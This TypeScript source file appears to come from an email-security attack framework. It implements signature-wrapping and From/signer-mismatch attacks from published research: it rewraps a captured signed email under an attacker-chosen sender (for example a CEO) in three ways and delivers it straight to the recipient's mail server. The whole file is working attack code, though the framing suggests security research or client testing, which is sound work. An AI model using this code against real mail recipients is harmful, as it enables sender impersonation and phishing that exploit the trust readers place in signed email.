import { randomBytes } from 'node:crypto';
import { makeBoundary } from '@ssmax/core';
import { addressIn, splitTopLevel, topHeaders } from './compose-mail.js';
import type { AttackerContext, ServiceRef } from './footholds.js';
import { OutcomeRecorder, type AttackOutcome } from './outcome.js';
import { mxOf, type ClientTls } from './smtp-send.js';
import { deliverAndRecord } from './spoof-direct.js';

/**
 * Signature wrapping and From/signer mismatch ("Johnny, you are fired", Müller et al., USENIX Security
 * 2019, §4–5):
 * - `from-swap`: the signed entity untouched, the outer From (and To/Subject) replaced — a client that shows
 *   "signed" without comparing the signer's address to From shows the attacker's chosen sender.
 * - `wrap-mixed`: a multipart/mixed with the attacker's text first and the original signed entity as a
 *   later part — a client that marks the whole mail as signed when any part is.
 * - `attach-rfc822`: the whole signed mail as a message/rfc822 attachment under the attacker's text.
 */
export type RewrapTechnique = 'from-swap' | 'wrap-mixed' | 'attach-rfc822';

export interface RewrapOptions {
  readonly technique: RewrapTechnique;
  /** The From the receiver should see (e.g. `"CEO" <ceo@org-a.example>`). */
  readonly from: string;
  /** Default: the original To. */
  readonly to?: string | readonly string[];
  /** Default: the original Subject. */
  readonly subject?: string;
  /** The attacker's own text (wrap-mixed, attach-rfc822). */
  readonly attackerText?: string;
  readonly date?: Date;
}

function originalHeader(headers: string, name: string): string | undefined {
  const m = new RegExp(`^${name}:[ \\t]*(.*(?:\\r\\n[ \\t].*)*)`, 'im').exec(headers);
  return m?.[1]?.replace(/\r\n[ \t]+/g, ' ').trim();
}

/** Re-wraps a validly signed mail (pure; sends nothing). The signed bytes are kept exactly. */
export function rewrapSignedMail(signedRaw: Uint8Array, o: RewrapOptions): Uint8Array {
  const { headers, entity } = splitTopLevel(signedRaw);
  const to = o.to ?? originalHeader(headers, 'To') ?? '';
  const subject = o.subject ?? originalHeader(headers, 'Subject') ?? '';
  const domain = addressIn(o.from)?.split('@')[1] ?? 'attacker.invalid';
  const top = topHeaders({ from: o.from, to, subject, ...(o.date ? { date: o.date } : {}), messageId: `${randomBytes(12).toString('hex')}@${domain}` });
  if (o.technique === 'from-swap') return new Uint8Array(Buffer.concat([Buffer.from(top, 'latin1'), entity]));
  const boundary = makeBoundary();
  const text = (o.attackerText ?? '').replace(/\r?\n/g, '\r\n');
  const inner =
    o.technique === 'wrap-mixed'
      ? Buffer.from(entity)
      : Buffer.concat([
          Buffer.from('Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="forwarded.eml"\r\n\r\n', 'latin1'),
          Buffer.from(signedRaw),
        ]);
  return new Uint8Array(
    Buffer.concat([
      Buffer.from(
        `${top}Content-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n--${boundary}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n`,
        'latin1',
      ),
      Buffer.from(`${text}\r\n--${boundary}\r\n`, 'utf8'),
      inner,
      Buffer.from(`\r\n--${boundary}--\r\n`, 'latin1'),
    ]),
  );
}

export interface SendRewrappedOptions extends RewrapOptions {
  readonly signedRaw: Uint8Array;
  /** Envelope recipients (default the To addresses). */
  readonly rcptTo?: readonly string[];
  readonly mx?: ServiceRef;
  readonly tls?: ClientTls;
}

/** Re-wraps a captured signed mail and sends it to the recipient's MX from the attacker's address. */
export async function sendRewrapped(ctx: AttackerContext, o: SendRewrappedOptions): Promise<AttackOutcome> {
  const rec = new OutcomeRecorder('rewrap-signed');
  const raw = rewrapSignedMail(o.signedRaw, { ...o, ...(ctx.now && !o.date ? { date: ctx.now() } : {}) });
  rec.act(`re-wrapped a signed mail (${o.technique}) under From: ${o.from}`);
  const toHeader = /^To:[ \t]*(.*)$/im.exec(Buffer.from(raw).toString('latin1'))?.[1] ?? '';
  const rcpt =
    o.rcptTo ??
    toHeader
      .split(',')
      .map((t) => addressIn(t))
      .filter((t): t is string => !!t);
  const mx = o.mx ?? { host: await mxOf(ctx, rcpt[0]?.split('@')[1] ?? ''), port: 25 };
  return deliverAndRecord(ctx, rec, { target: mx, envelope: { from: addressIn(o.from) ?? '', to: rcpt }, raw, ...(o.tls ? { tls: o.tls } : {}) });
}
